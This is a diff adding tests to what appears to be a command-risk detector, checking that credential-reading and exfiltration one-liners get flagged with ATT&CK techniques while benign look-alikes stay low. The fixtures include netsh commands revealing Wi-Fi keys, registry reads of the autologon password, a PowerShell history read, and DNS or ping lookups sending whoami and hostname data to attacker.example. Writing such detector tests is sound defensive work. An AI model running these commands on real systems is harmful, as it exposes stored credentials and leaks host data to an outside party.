@@ -620,3 +620,32 @@ describe('thirteenth round: shapes the validation sources held that no rule read
     expect(['info', 'low']).toContain(worst(text));
   });
 });
+
+describe('fifteenth round: procedures the one-liner gate let past the model as reads, each with a benign look-alike', () => {
+  it.each([
+    ['Wi-Fi keys shown in clear', 'netsh wlan show profile name="CorpWiFi" key=clear', 'cred.wifi_keys', 'T1555'],
+    ['every Wi-Fi profile with its key', 'netsh wlan show profiles * key = clear', 'cred.wifi_keys', 'T1555'],
+    ["the autologon password read with reg", 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v DefaultPassword', 'cred.autologon_registry', 'T1552.002'],
+    ['the autologon password read with PowerShell', 'Get-ItemProperty -Path "HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" | Select-Object DefaultUserName,DefaultPassword', 'cred.autologon_registry', 'T1552.002'],
+    ['whoami sent in a DNS name', 'dig $(whoami).$(hostname).exfil.attacker.example', 'exfil.dns_lookup_output', 'T1048.003'],
+    ['a file sent in a ping name', 'ping -c 1 $(cat /etc/hostname | base64).attacker.example', 'exfil.dns_lookup_output', 'T1048.003'],
+    ['backticks in an nslookup name', 'nslookup `whoami`.attacker.example 203.0.113.9', 'exfil.dns_lookup_output', 'T1048.003'],
+    ["PowerShell's history read from its full path", 'Get-Content $env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt', 'cred.shell_history', 'T1552.003'],
+  ])('%s', (_n, text, id, tech) => {
+    const f = technique(text, id);
+    expect(f).toBeDefined();
+    expect(f?.name.startsWith(tech)).toBe(true);
+    expect(f?.severity).toBe('medium');
+  });
+
+  it.each([
+    ['Wi-Fi profiles listed without keys', 'netsh wlan show profiles'],
+    ['one Wi-Fi profile shown', 'netsh wlan show profile name="CorpWiFi"'],
+    ['the autologon user read', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v DefaultUserName'],
+    ['the host name looked up', 'dig +short $(hostname -f)'],
+    ['a ping of the gateway', 'ping -c 3 $(ip route | awk \'/default/ {print $3}\')'],
+    ['a lookup of a fixed name', 'nslookup api.example.com 10.0.0.53'],
+  ])('%s stays at low or below', (_n, text) => {
+    expect(['info', 'low']).toContain(worst(text));
+  });
+});
